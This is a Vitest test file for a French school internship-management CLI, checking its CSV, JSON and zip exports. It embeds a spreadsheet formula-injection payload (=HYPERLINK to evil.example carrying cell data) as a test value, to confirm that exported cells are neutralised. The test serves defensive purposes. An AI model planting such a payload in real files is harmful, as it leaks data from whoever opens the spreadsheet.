// End-of-term exports through the built CLI: CSV for Excel and LibreOffice, JSON, zip with the printed documents.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import JSZip from 'jszip';
import { cpro, cproJson, tempDir, FIXTURES } from '../helpers/cli.js';
import { requireTool } from '../helpers/tools.js';
import { sqlRow } from '../helpers/engine.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")';

let dir: string;
let db: string;
let cleanup: () => void;
let token: string;
let tokenHash: string;
const run = (...args: string[]) => cpro(['--db', db, ...args], { cwd: dir, env: { CPRO_OUTBOX: join(dir, 'outbox') } });

/** A class as at the end of June: liaison sheets, a tutor invited, bilans, portfolios, printed documents. */
beforeAll(() => {
  ({ dir, cleanup } = tempDir('cpro-export-'));
  db = join(dir, 'cpro.db');
  const ok = (r: { code: number; stderr: string }) => expect(r.code, r.stderr).toBe(0);
  for (const annex of ['annexe-2mspc1.csv', 'annexe-1mspc-pronote.txt', 'annexe-tmspc-windows1252.csv']) ok(run('import', 'annexe', join(FIXTURES, annex)));
  ok(run('liaison', 'import', join(FIXTURES, 'liaison-demo.csv')));
  ok(run('liaison', 'set', '--period', 'PFMP 2', '--learner', 'ACCARDO Aline', `entreprise.nom=${HYPERLINK}`, 'tuteur.nom=Boisseau',
    'tuteur.prenom=Julien', 'tuteur.courriel=julien.boisseau@fragrance-plus.example'));
  ok(run('tutors', 'invite', '--period', 'PFMP 2', '--learner', 'ACCARDO Aline'));
  const eml = readdirSync(join(dir, 'outbox')).find((f) => f.endsWith('.eml'))!;
  const message = readFileSync(join(dir, 'outbox', eml), 'utf8').replace(/=\r?\n/g, '').replace(/=3D/g, '='); // quoted-printable
  token = /jeton=([A-Za-z0-9_-]{20,})/.exec(message)![1];
  tokenHash = sqlRow<{ h: string }>(db, 'SELECT token_hash AS h FROM tutor_tokens')!.h;
  ok(run('eval', 'import', join(FIXTURES, 'bilans-entreprise-pfmp2.csv'), '--period', 'PFMP 2', '--type', 'entreprise'));
  ok(run('bilan-personnel', 'import', join(FIXTURES, 'bilans-personnels-pfmp2.csv'), '--period', 'PFMP 2'));
  ok(run('portfolio', 'import', join(FIXTURES, 'portfolios'), '--period', 'PFMP 2'));
  ok(run('portfolio', 'comment', '--period', 'PFMP 2', '--learner', 'accardo', '--author', 'M. Martin', '--', '-5 points si rendu en retard'));
  ok(run('portfolio', 'export', '--period', 'PFMP 2', '--format', 'pdf'));
  // Attendance: the period's absences, ACCARDO's confirmed by the teacher (before the attestation is printed).
  ok(run('attendance', 'import', join(FIXTURES, 'absences-pfmp2.csv')));
  ok(run('attendance', 'confirm', '--period', 'PFMP 2', '--learner', 'ACCARDO Aline'));
  ok(run('print', 'attestations', '--period', 'PFMP 2', '--learner', 'ACCARDO Aline', '--format', 'docx'));
  // A file the teacher filed in a sub-folder of the period's documents is taken too.
  mkdirSync(join(dir, 'documents', 'PFMP 2', 'scans'), { recursive: true });
  writeFileSync(join(dir, 'documents', 'PFMP 2', 'scans', 'convention signée.pdf'), '%PDF-1.4');
});
afterAll(() => cleanup());

const BOM = '\uFEFF';
const csvLines = (text: string) => text.slice(1).split('\r\n').slice(0, -1);

describe('cpro export --format csv', () => {
  it('writes one file per subject, for Excel and LibreOffice: BOM, « ; », CRLF, accents intact', () => {
    const r = run('export', '--class', '2MSPC1', '--format', 'csv', '--out', 'fin-annee');
    expect(r.code, r.stderr).toBe(0);
    const folder = join(dir, 'fin-annee');
    expect(r.stdout).toContain(`Export de la classe 2MSPC1 (2 périodes) en CSV : ${folder}`);
    expect(readdirSync(folder).sort()).toEqual([
      'apprenants.csv', 'bilans-personnels.csv', 'evaluations-niveaux.csv', 'evaluations.csv', 'fiches-de-liaison.csv',
      'portfolios-commentaires.csv', 'portfolios.csv', 'presence.csv', 'tuteurs.csv',
    ]);
    expect(statSync(folder).mode & 0o777).toBe(0o700);
    for (const f of readdirSync(folder)) {
      const bytes = readFileSync(join(folder, f));
      expect(statSync(join(folder, f)).mode & 0o777, f).toBe(0o600);
      expect([...bytes.subarray(0, 3)], f).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text.endsWith('\r\n'), f).toBe(true);
      expect(text.replace(/\r\n/g, '').includes('\r'), f).toBe(false);
    }
    const learners = readFileSync(join(folder, 'apprenants.csv'), 'utf8');
    expect(learners.startsWith(BOM + 'Nom;Prénom;INE;Classe;Date de naissance;Courriel;Statut;Périodes\r\n')).toBe(true);
    expect(csvLines(learners)).toContain('NGUYỄN;Thị Lan;110480124BB;2MSPC1;2009-09-02;;Scolaire;PFMP 1 | PFMP 2');
    expect(learners).toContain('ŒUVRAY;Zoé;');
    expect(learners).toContain('FAŸ;Jean-Baptiste;');
    expect(learners).toContain('JEAN-FRANÇOIS;Célia-Tassadit;');
    expect(csvLines(learners)).toHaveLength(9);
  });

  it('neutralises cells that a spreadsheet would run as formulas', () => {
    const sheets = readFileSync(join(dir, 'fin-annee', 'fiches-de-liaison.csv'), 'utf8');
    expect(sheets).toContain(`PFMP 2;ACCARDO;Aline;110480123AA;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Cliquez ici"")";`);
    expect(sheets).not.toMatch(/;=HYPERLINK|;"=HYPERLINK/);
    const comments = readFileSync(join(dir, 'fin-annee', 'portfolios-commentaires.csv'), 'utf8');
    expect(comments).toContain(";M. Martin;'-5 points si rendu en retard\r\n");
  });

  it('exports tutors without their access tokens nor the tokens\' hashes', () => {
    const tutors = readFileSync(join(dir, 'fin-annee', 'tuteurs.csv'), 'utf8');
    expect(tutors.split('\r\n')[0]).toBe(
      `${BOM}Période;Nom;Prénom;INE;Rôle;Nom du tuteur;Prénom du tuteur;Courriel du tuteur;Entreprise;Accès;Lien envoyé le;Lien valable jusqu’au`,
    );
    expect(tutors).toMatch(/PFMP 2;ACCARDO;Aline;110480123AA;tuteur de stage;Boisseau;Julien;julien\.boisseau@fragrance-plus\.example;/);
    for (const f of readdirSync(join(dir, 'fin-annee'))) {
      const text = readFileSync(join(dir, 'fin-annee', f), 'utf8');
      expect(text.includes(token), f).toBe(false);
      expect(text.includes(tokenHash), f).toBe(false);
    }
  });

  it('includes the evaluations, bilans personnels and portfolios recorded', () => {
    const evals = csvLines(readFileSync(join(dir, 'fin-annee', 'evaluations.csv'), 'utf8'));
    expect(evals[0]).toBe('Période;Nom;Prénom;INE;Bilan;Date de la rencontre;Tâches réalisées;Engagement (1 à 4);Réponses;Commentaire;Mise à jour');
    expect(evals[1]).toMatch(/^PFMP 2;ACCARDO;Aline;110480123AA;bilan entreprise;2025-06-26;A1T1, A1T2, A2T1, A2T2;3;\d+;Bonne implication/);
    const levels = readFileSync(join(dir, 'fin-annee', 'evaluations-niveaux.csv'), 'utf8');
    expect(levels).toContain('PFMP 2;ACCARDO;Aline;110480123AA;bilan entreprise;C1.1;3;');
    expect(readFileSync(join(dir, 'fin-annee', 'portfolios.csv'), 'utf8')).toContain('PFMP 2;ACCARDO;Aline;110480123AA;Fragrance Plus;4;2;1;3;accardo-aline.yaml;');
  });

  it('includes the attendance per learner and period: days, hours with a decimal comma, who confirmed, gratification', () => {
    const lines = csvLines(readFileSync(join(dir, 'fin-annee', 'presence.csv'), 'utf8'));
    expect(lines[0]).toBe(
      "Période;Nom;Prénom;INE;Jours prévus;Jours effectués;Heures effectuées;Heures par jour;Absences;Présence confirmée;Confirmée par;Confirmée le;" +
        "Heures cumulées chez l'organisme (année scolaire);Gratification due",
    );
    // Two periods of the class, 8 learners each.
    expect(lines).toHaveLength(1 + 16);
    const accardo = lines.find((l) => l.startsWith('PFMP 2;ACCARDO;'))!;
    expect(accardo).toMatch(/^PFMP 2;ACCARDO;Aline;110480123AA;19;18,5;129,5;7;04\/06\/2025 demi-journée \(Rendez-vous médical\);oui;enseignant;\d{4}-\d\d-\d\d \d\d:\d\d;129,5;non$/);
    expect(lines).toContain('PFMP 2;BOULEAU;Cédric;;19;17;119;7;10/06/2025 journée (Maladie), 11/06/2025 journée (Maladie);non;;;119;non');
    expect(lines.find((l) => l.startsWith('PFMP 2;NGUYỄN;'))).toMatch(/;19;18,5;131;7;16\/06\/2025 2 h \(Retard \(transport\)\);non;;;131;non$/);
    expect(lines.filter((l) => l.startsWith('PFMP 1;'))).toHaveLength(8);
  });

  it('opens in LibreOffice Calc with accents intact and no formula run, even with formula evaluation on', async (ctx) => {
    const soffice = requireTool('soffice-calc', ctx);
    const work = tempDir('cpro-lo-');
    try {
      // A control file proves the import would have run an unprotected formula.
      const files = {
        export: readFileSync(join(dir, 'fin-annee', 'fiches-de-liaison.csv')),
        control: Buffer.from(`${BOM}Nom;Calcul\r\nNGUYỄN;=1+1\r\n`, 'utf8'),
      };
      const sheets: Record<string, { formulas: number; strings: string }> = {};
      for (const [name, bytes] of Object.entries(files)) {
        writeFileSync(join(work.dir, `${name}.csv`), bytes);
        const r = spawnSync(soffice, [
          `-env:UserInstallation=file://${work.dir}/profile`, '--headless',
          // ; separator, " quotes, UTF-8, from line 1, French, …, evaluate formulas: true
          '--infilter=CSV:59,34,76,1,,1036,false,false,false,false,false,-1,true',
          '--convert-to', 'xlsx', '--outdir', work.dir, join(work.dir, `${name}.csv`),
        ], { encoding: 'utf8', timeout: 120_000 });
        expect(r.status, r.stderr).toBe(0);
        const zip = await JSZip.loadAsync(readFileSync(join(work.dir, `${name}.xlsx`)));
        const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
        const strings = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '';
        sheets[name] = { formulas: (sheet.match(/<f[ >]/g) ?? []).length, strings };
      }
      expect(sheets.control.formulas).toBe(1);
      expect(sheets.export.formulas).toBe(0);
      expect(sheets.export.strings).toContain('&apos;=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1;&quot;Cliquez ici&quot;)');
      expect(sheets.export.strings).toContain('NGUYỄN');
      expect(sheets.export.strings).toContain('Thị Lan');
    } finally {
      work.cleanup();
    }
  });
});

describe('cpro export --format json and zip', () => {
  it('writes the same content as one JSON document', () => {
    const r = run('export', '--period', 'PFMP 2', '--format', 'json', '--out', 'pfmp2.json');
    expect(r.code, r.stderr).toBe(0);
    const file = join(dir, 'pfmp2.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const doc = JSON.parse(readFileSync(file, 'utf8'));
    expect(doc.scope).toMatchObject({ kind: 'period', class: '2MSPC1', period: 'PFMP 2' });
    expect(Object.keys(doc)).toEqual([
      'scope', 'generatedAt', 'learners', 'liaisonSheets', 'tutors', 'evaluations', 'evaluationLevels', 'bilansPersonnels',
      'portfolios', 'portfolioComments', 'attendance',
    ]);
    const accardo = doc.attendance.find((a: { lastName: string }) => a.lastName === 'ACCARDO');
    expect(accardo).toMatchObject({ period: 'PFMP 2', daysPlanned: 19, daysDone: 18.5, hours: 129.5, confirmed: true, confirmedBy: 'enseignant', gratificationDue: false });
    expect(doc.attendance).toHaveLength(8);
    expect(doc.learners).toHaveLength(8);
    expect(doc.liaisonSheets.find((s: { lastName: string }) => s.lastName === 'ACCARDO').companyName).toBe(HYPERLINK);
    expect(doc.portfolios).toHaveLength(3);
    const text = readFileSync(file, 'utf8');
    expect(text.includes(token)).toBe(false);
    expect(text.includes(tokenHash)).toBe(false);
    const viaJson = cproJson<{ path: string; subjects: Array<{ id: string; rows: number }> }>(db, ['export', '--period', 'PFMP 2', '--format', 'json', '--out', 'autre.json'], { cwd: dir });
    expect(viaJson.data.subjects.find((s) => s.id === 'learners')!.rows).toBe(8);
  });

  it('zips the CSV files with every printed document of the period', async () => {
    const r = run('export', '--period', 'PFMP 2', '--format', 'zip');
    expect(r.code, r.stderr).toBe(0);
    const file = join(dir, 'exports', 'Export 2MSPC1 PFMP 2.zip');
    expect(r.stdout).toContain(file);
    expect(r.stdout).toContain('Documents imprimés ajoutés : 5');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(dir, 'exports')).mode & 0o777).toBe(0o700);
    const zip = await JSZip.loadAsync(readFileSync(file));
    expect(Object.keys(zip.files).sort()).toEqual([
      'apprenants.csv', 'bilans-personnels.csv',
      'documents/PFMP 2/Attestation - PFMP 2 - Aline ACCARDO.docx', 'documents/PFMP 2/Portfolio - PFMP 2 - Aline ACCARDO.pdf',
      'documents/PFMP 2/Portfolio - PFMP 2 - Cédric BOULEAU.pdf', 'documents/PFMP 2/Portfolio - PFMP 2 - Thị Lan NGUYỄN.pdf',
      'documents/PFMP 2/scans/convention signée.pdf',
      'evaluations-niveaux.csv', 'evaluations.csv', 'fiches-de-liaison.csv', 'portfolios-commentaires.csv', 'portfolios.csv',
      // Each portfolio whole, in its file format.
      'portfolios/PFMP 2/ACCARDO Aline.yaml', 'portfolios/PFMP 2/BOULEAU Cédric.yaml', 'portfolios/PFMP 2/NGUYỄN Thị Lan.yaml',
      'presence.csv',
      'tuteurs.csv',
    ]);
    const learners = await zip.file('apprenants.csv')!.async('nodebuffer');
    expect([...learners.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((await zip.file('presence.csv')!.async('string')).startsWith(BOM + 'Période;Nom;Prénom;INE;Jours prévus;')).toBe(true);
    const pdf = await zip.file('documents/PFMP 2/Portfolio - PFMP 2 - Aline ACCARDO.pdf')!.async('nodebuffer');
    expect(pdf.equals(readFileSync(join(dir, 'documents', 'PFMP 2', 'Portfolio - PFMP 2 - Aline ACCARDO.pdf')))).toBe(true);
  });

  it('asks for exactly one of --period and --class', () => {
    const both = run('export', '--period', 'PFMP 2', '--class', '2MSPC1', '--format', 'csv');
    expect(both.code).toBe(2);
    expect(both.stderr).toBe("erreur : indiquez --period <période> ou --class <classe> (l'un des deux)\n");
    expect(run('export', '--format', 'csv').code).toBe(2);
    expect(run('export', '--class', '3XYZ', '--format', 'csv').stderr).toBe('erreur : classe inconnue : « 3XYZ » (voir « cpro periods list »)\n');
  });
});
